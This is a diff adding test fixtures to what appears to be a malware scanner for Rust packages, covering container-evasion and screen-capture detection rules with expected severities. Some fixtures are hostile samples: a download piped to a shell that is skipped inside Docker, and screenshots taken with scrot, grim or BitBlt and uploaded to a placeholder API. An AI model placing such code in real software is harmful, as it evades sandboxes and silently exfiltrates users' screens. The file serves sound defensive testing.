@@ -255,6 +255,95 @@ let _ = reqwest::blocking::Client::new().post("https://api.telegram.org/bot00000
     rule: 'code.input-capture',
     severity: 'high',
   },
+  // --- container checks ---
+  {
+    name: 'a download piped to a shell unless the process runs in a container',
+    files: lib(
+      'panicx',
+      `pub fn install() {
+    if std::path::Path::new("/.dockerenv").exists() { return; }
+    let _ = std::process::Command::new("sh").arg("-c").arg("curl -s https://p.example/p | sh").spawn();
+}`,
+    ),
+    rule: 'code.evasion',
+    severity: 'high',
+  },
+  {
+    name: 'a container-detection helper with nothing to guard',
+    files: lib(
+      'isdocker',
+      `pub fn is_docker() -> bool {
+    std::path::Path::new("/.dockerenv").exists()
+        || std::fs::read_to_string("/proc/1/cgroup").map(|s| s.contains("docker")).unwrap_or(false)
+}
+pub const RUNTIMES: [&str; 2] = ["docker", "podman"];`,
+    ),
+    rule: 'code.evasion',
+    severity: 'medium',
+  },
+  // --- screen capture ---
+  {
+    name: 'a capture tool named in a list of commands, in a file that posts to an API',
+    files: lib(
+      'shotx',
+      `fn grab(p: &str) -> bool {
+    let tools: Vec<Vec<&str>> = vec![vec!["scrot", "-o", p], vec!["grim", p]];
+    tools.iter().any(|t| std::process::Command::new(t[0]).args(&t[1..]).status().is_ok())
+}
+pub fn scale() -> f64 {
+    if grab("/tmp/s.png") { let b = std::fs::read("/tmp/s.png").unwrap_or_default(); let _ = ureq::post("https://api.example/u").send_bytes(&b); }
+    1.0
+}`,
+    ),
+    rule: 'code.screen-capture',
+    severity: 'high',
+  },
+  {
+    name: 'a screenshot tool that saves locally (no network)',
+    files: bin(
+      'snapper',
+      `fn main() { let out = std::env::args().nth(1).unwrap_or("shot.png".into()); let _ = std::process::Command::new("gnome-screenshot").args(["-f", &out]).status(); }`,
+    ),
+    rule: 'code.screen-capture',
+    severity: 'low',
+  },
+  {
+    name: 'BitBlt from the desktop DC with an upload in the file',
+    files: lib(
+      'blitx',
+      `pub fn grab() { unsafe { let src = GetDC(std::ptr::null_mut()); let mem = CreateCompatibleDC(src); BitBlt(mem, 0, 0, 800, 600, src, 0, 0, SRCCOPY); } let _ = ureq::post("https://api.example/u").call(); }`,
+    ),
+    rule: 'code.screen-capture',
+    severity: 'high',
+  },
+  {
+    name: 'BitBlt between a window and its back buffer (double buffering) is no capture',
+    files: lib(
+      'paintx',
+      `pub fn paint(hwnd: HWND) { unsafe { let dc = GetDC(hwnd); let mem = CreateCompatibleDC(dc); BitBlt(dc, 0, 0, 800, 600, mem, 0, 0, SRCCOPY); } let _ = ureq::get("https://api.example/theme").call(); }`,
+    ),
+    rule: 'code.screen-capture',
+    severity: null,
+  },
+  {
+    name: 'the word "import" in a file without `-window root` is no capture',
+    files: lib(
+      'importx',
+      `pub fn run(f: &str) { let _ = std::process::Command::new("python3").args(["-c", "import json"]).arg(f).status(); let _ = ureq::get("https://api.example/x").call(); }`,
+    ),
+    rule: 'code.screen-capture',
+    severity: null,
+  },
+  {
+    name: 'capture tools named as file extensions in a MIME table, in a file that runs nothing',
+    files: lib(
+      'mimex',
+      `pub static TYPES: &[(&str, &str)] = &[("xwd", "image/x-xwindowdump"), ("grim", "text/plain")];
+pub fn fetch(u: &str) { let _ = ureq::get(u).call(); }`,
+    ),
+    rule: 'code.screen-capture',
+    severity: null,
+  },
   // --- build time ---
   {
     name: 'build script running code from an executable mapping',
